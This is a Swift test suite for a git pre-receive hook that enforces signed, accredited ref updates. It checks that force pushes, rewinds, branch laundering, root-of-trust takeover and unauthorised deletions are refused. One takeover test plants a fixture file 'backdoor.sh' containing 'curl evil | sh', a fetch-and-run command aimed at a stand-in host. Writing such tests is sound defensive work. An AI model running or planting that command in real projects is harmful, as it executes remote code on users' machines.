import DehubTestSupport
import Foundation
import Testing

/// The pre-receive hook's update semantics (format §10): new branches, force pushes, rewinds, branch laundering,
/// several refs in one push (all or nothing), deletions and tags.
@Suite("pre-receive hook: ref updates")
struct HookRefUpdateTests {
    private func world(config: ((ScenarioTeam) -> ScenarioConfig)? = nil) throws -> (Scenario, ScenarioTeam, String) {
        let s = try Scenario()
        let team: ScenarioTeam
        if let config {
            team = try ScenarioTeam(in: s)
            try s.bootstrap(config(team), signers: [team.a, team.b])
            try s.makeServer()
            expectAccepted(try s.push("-q", "origin", "main"))
        } else {
            team = try s.guardedRepository()
        }
        return (s, team, try s.head("main"))
    }

    @Test func acceptsANewThreadBranch() throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        try s.change("One", by: team.a, files: ["1.txt": "1\n"])
        try s.comment("Two", by: team.b)
        let tip = try s.credential(start: "HEAD~1", by: team.c)
        let result = try s.push("origin", "feature")
        expectAccepted(result)
        #expect(result.stderrText.contains("remote: dehub: 3 commit(s) verified"), "\(result.transcript)")
        #expect(try s.serverRef("refs/heads/feature") == tip)
    }

    @Test func acceptsAForcePushToAThread() throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        try s.change("First try", by: team.a, files: ["f.txt": "1\n"])
        expectAccepted(try s.push("origin", "feature"))
        try s.git("reset", "-q", "--hard", "main")
        let rewritten = try s.change("Second try", by: team.a, files: ["f.txt": "2\n"])
        let result = try s.push("--force", "origin", "feature")
        expectAccepted(result)
        #expect(try s.serverRef("refs/heads/feature") == rewritten)
    }

    @Test func refusesAForcePushToMain() throws {
        let (s, team, root) = try world()
        let first = try s.landOnMain("First", files: ["f.txt": "1\n"], author: team.a, reviewers: [team.b])
        expectAccepted(try s.push("origin", "main"))
        try s.git("reset", "-q", "--hard", root)
        let replacement = try s.landOnMain("Replacement", files: ["f.txt": "2\n"], author: team.a, reviewers: [team.b, team.c])
        let result = try s.push("--force", "origin", "main")
        expectRefused(result, "not a fast-forward", "main only moves forward")
        #expect(try s.serverRef("refs/heads/main") == first)
        #expect(try !s.serverHasObject(replacement))
    }

    @Test func refusesRewindingMainToAnOlderCommit() throws {
        let (s, team, root) = try world()
        let tip = try s.landOnMain("Forward", files: ["f.txt": "1\n"], author: team.a, reviewers: [team.b])
        expectAccepted(try s.push("origin", "main"))
        let result = try s.push("--force", "origin", "\(root):refs/heads/main")
        expectRefused(result, "not a fast-forward")
        #expect(try s.serverRef("refs/heads/main") == tip)
    }

    /// The config of `scripts/demo.sh` and format §8.3 (2 signatures on main, then a deny) has no forward-only rule:
    /// its `allow` matches before default #1. A rewind brings no new commit; the old tip is judged again and, having
    /// been accredited once, passes. So anyone who may push can roll main back to any earlier commit, with no key.
    @Test func rewindingMainUnderTheDemoConfigNeedsNoSignature() throws {
        let (s, team, root) = try world(config: { team in
            team.config(accessControls: ScenarioConfig.mainNeedsWithoutForwardRule(2, of: ScenarioTeam.names))
        })
        let fix = try s.landOnMain("Security fix", files: ["fix.txt": "fixed\n"], author: team.a, reviewers: [team.b])
        expectAccepted(try s.push("origin", "main"))
        let result = try s.push("--force", "origin", "\(root):refs/heads/main")
        let serverMain = try s.serverRef("refs/heads/main")
        #expect(result.exitCode != 0, "\(result.transcript)")
        #expect(serverMain == fix)
    }

    /// The project starts with the demo's rules, then adds "main only moves forward" (properly accredited). A rewind
    /// to a commit from before that change is judged by that old commit's parent config, which has no such rule:
    /// main moves back, with no signature at all.
    @Test func refusesRewindingMainToBeforeTheForwardOnlyRuleWasAdded() throws {
        let (s, team, _) = try world(config: { team in
            team.config(accessControls: ScenarioConfig.mainNeedsWithoutForwardRule(2, of: ScenarioTeam.names))
        })
        let old = try s.landOnMain("Old work", files: ["o.txt": "o\n"], author: team.a, reviewers: [team.b])
        let tip = try s.landOnMain(
            "Main only moves forward from now on",
            files: [".dehub/config.yml": team.strictConfig().render()], author: team.a, reviewers: [team.b])
        expectAccepted(try s.push("origin", "main"))
        let result = try s.push("--force", "origin", "\(old):refs/heads/main")
        let serverMain = try s.serverRef("refs/heads/main")
        #expect(result.exitCode != 0, "\(result.transcript)")
        #expect(serverMain == tip)
    }

    @Test func refusesMovingMainSidewaysOntoAnExistingThreadCommit() throws {
        let (s, team, _) = try world()
        let tip = try s.landOnMain("Forward", files: ["f.txt": "1\n"], author: team.a, reviewers: [team.b])
        expectAccepted(try s.push("origin", "main"))
        // A thread from the old root, fully accredited, is on the server already.
        try s.git("switch", "-q", "-c", "side", "main~1")
        try s.accreditedChange("Side", files: ["s.txt": "s\n"], team: team)
        expectAccepted(try s.push("origin", "side"))
        let result = try s.push("--force", "origin", "side:main")
        expectRefused(result, "not a fast-forward")
        #expect(try s.serverRef("refs/heads/main") == tip)
    }

    /// An outsider force-pushes a whole new history onto main: a root commit whose own config names only her and
    /// allows everything. Each commit is judged by its own parent's config (the root by itself), so unless the hook
    /// holds main to its existing root, she replaces the project's root of trust.
    @Test func refusesReplacingMainWithAnotherRootOfTrust() throws {
        let (s, _, root) = try world()
        let mallory = try s.sshKey("mallory")
        try s.git("switch", "-q", "--orphan", "evil")
        let evilConfig = ScenarioConfig(
            accounts: [.init("mallory", [.ssh(mallory.publicKeyLine)])],
            accessControls: "- action: allow\n")
        let evil = try s.change(
            "Take over", by: ScenarioSigner("mallory", key: mallory),
            files: [".dehub/config.yml": evilConfig.render(), "backdoor.sh": "curl evil | sh\n"])
        let result = try s.push("--force", "origin", "evil:main")
        let serverMain = try s.serverRef("refs/heads/main")
        #expect(result.exitCode != 0, "\(result.transcript)")
        #expect(serverMain == root, "main was replaced by \(serverMain ?? "nothing"); evil is \(evil)")
    }

    /// A7: a commit allowed on a thread (one signature) must not reach main by a fast-forward in a second push.
    @Test func refusesBranchLaunderingThroughAThread() throws {
        let (s, team, root) = try world()
        try s.git("switch", "-q", "-c", "feature")
        let change = try s.change("Alice alone", by: team.a, files: ["a.txt": "a\n"])
        expectAccepted(try s.push("origin", "feature"))
        #expect(try s.serverHasObject(change))
        let result = try s.push("origin", "feature:main")
        expectRefused(result, "on branch 'main'", "needs credentials from 2 of [alice, bob, carol]; verified: alice")
        #expect(try s.serverRef("refs/heads/main") == root)
    }

    /// A release branch needs more than a thread: a new release branch made from a thread's commits must be
    /// judged under the release rules.
    @Test func refusesLaunderingIntoAStricterNewBranch() throws {
        let (s, team, _) = try world(config: { team in
            team.config(
                accessControls: """
                    - action: allow
                      filters:
                      - {type: branch, pattern: "release/*"}
                      - {type: signature, account_ids: [alice, bob, carol], count: 3}
                    - action: deny
                      filters:
                      - {type: branch, pattern: "release/*"}

                    """ + ScenarioConfig.mainNeeds(2, of: ScenarioTeam.names))
        })
        try s.git("switch", "-q", "-c", "feature")
        try s.change("Alice alone", by: team.a, files: ["a.txt": "a\n"])
        expectAccepted(try s.push("origin", "feature"))
        let result = try s.push("origin", "feature:refs/heads/release/1")
        expectRefused(result, "on branch 'release/1'")
        #expect(try s.serverRef("refs/heads/release/1") == nil)
    }

    /// The same rules, and a release branch created at main's tip: main's commits were judged for main, not for
    /// release/*, whose rules (3 signatures) they do not meet. Format §10's proposed rule 3 says to verify the new
    /// tip when an update brings no commit.
    @Test func refusesANewStricterBranchCreatedAtAnExistingCommit() throws {
        let (s, _, _) = try world(config: { team in
            team.config(
                accessControls: """
                    - action: deny
                      filters:
                      - {type: branch, pattern: "release/*"}

                    """ + ScenarioConfig.mainNeeds(2, of: ScenarioTeam.names))
        })
        let result = try s.push("origin", "main:refs/heads/release/1")
        let created = try s.serverRef("refs/heads/release/1")
        #expect(result.exitCode != 0, "\(result.transcript)")
        #expect(created == nil)
    }

    @Test func refusesBothUpdatesWhenOneOfTwoBranchesIsBad() throws {
        let (s, team, root) = try world()
        try s.git("switch", "-q", "-c", "good")
        try s.change("Good thread work", by: team.a, files: ["g.txt": "g\n"])
        expectAccepted(try s.push("origin", "good"))
        let goodServer = try s.serverRef("refs/heads/good")
        let goodTip = try s.change("More good work", by: team.b, files: ["g.txt": "g2\n"])
        try s.git("switch", "-q", "main")
        try s.write("bad.txt", "bad\n")
        try s.git("add", "bad.txt")
        try s.git("commit", "-q", "-m", "Unsigned")
        let result = try s.push("origin", "good", "main")
        expectRefused(result)
        #expect(try s.serverRef("refs/heads/good") == goodServer, "the good update must not go through alone")
        #expect(try s.serverRef("refs/heads/main") == root)
        #expect(try !s.serverHasObject(goodTip))
    }

    @Test func refusesDeletingMain() throws {
        let (s, team, root) = try world()
        try s.git("switch", "-q", "-c", "feature")
        try s.change("Keep main", by: team.a, files: ["k.txt": "k\n"])
        expectAccepted(try s.push("origin", "feature"))
        let result = try s.push("origin", ":main")
        expectRefused(result, "deleting main is never allowed")
        #expect(try s.serverRef("refs/heads/main") == root)
    }

    @Test func allowsDeletingAThread() throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        try s.change("Short-lived", by: team.a, files: ["k.txt": "k\n"])
        expectAccepted(try s.push("origin", "feature"))
        expectAccepted(try s.push("origin", ":feature"))
        #expect(try s.serverRef("refs/heads/feature") == nil)
    }

    @Test(
        "behind a host that names the pusher's role, only admins and members delete threads",
        arguments: [
            ("other", false), ("", false), ("nonsense", false), ("member", true), ("admin", true),
        ])
    func deletionsByRole(role: String, allowed: Bool) throws {
        let (s, team, _) = try world()
        try s.git("switch", "-q", "-c", "feature")
        try s.change("Short-lived", by: team.a, files: ["k.txt": "k\n"])
        expectAccepted(try s.push("origin", "feature"))
        let tip = try s.serverRef("refs/heads/feature")
        // Scenario.push drops a variable whose value is empty; an empty role is sent as a lone space.
        let result = try s.push("origin", ":feature", environment: ["DEHUB_PUSHER_ROLE": role.isEmpty ? " " : role])
        if allowed {
            expectAccepted(result)
            #expect(try s.serverRef("refs/heads/feature") == nil)
        } else {
            expectRefused(result, "deleting 'feature' is refused: on this host only admins and the repository's members")
            #expect(try s.serverRef("refs/heads/feature") == tip)
        }
    }

    /// Plain git tags are not release tags (format §13): a lightweight one and an annotated one without a payload.
    @Test func refusesTags() throws {
        let (s, _, _) = try world()
        try s.git("tag", "v1")
        expectRefused(try s.push("origin", "v1"), "which is not an annotated tag object: lightweight tags are refused")
        #expect(try s.serverRef("refs/tags/v1") == nil)
        try s.git("tag", "-a", "-m", "annotated", "v2")
        expectRefused(try s.push("origin", "v2"), "tag 'v2' is not verifiable (payload)")
        #expect(try s.serverRef("refs/tags/v2") == nil)
    }

    @Test func refusesOtherRefNamespaces() throws {
        let (s, _, _) = try world()
        expectRefused(try s.push("origin", "main:refs/notes/commits"), "only branches")
        expectRefused(try s.push("origin", "main:refs/pull/1/head"), "only branches")
        #expect(try s.serverRef("refs/pull/1/head") == nil)
    }

    @Test func acceptsMainAndAThreadTogether() throws {
        let (s, team, _) = try world()
        let mainTip = try s.landOnMain("On main", files: ["m.txt": "m\n"], author: team.a, reviewers: [team.c])
        try s.git("switch", "-q", "-c", "feature")
        let threadTip = try s.change("On the thread", by: team.b, files: ["t.txt": "t\n"])
        let result = try s.push("origin", "main", "feature")
        expectAccepted(result)
        #expect(try s.serverRef("refs/heads/main") == mainTip)
        #expect(try s.serverRef("refs/heads/feature") == threadTip)
    }
}

extension Scenario {
    /// On the checked-out thread: alice's change, accredited by bob.
    fileprivate func accreditedChange(_ description: String, files: [String: String], team: ScenarioTeam) throws {
        let start = try change(description, by: team.a, files: files)
        try credential(start: start, by: team.b)
    }
}
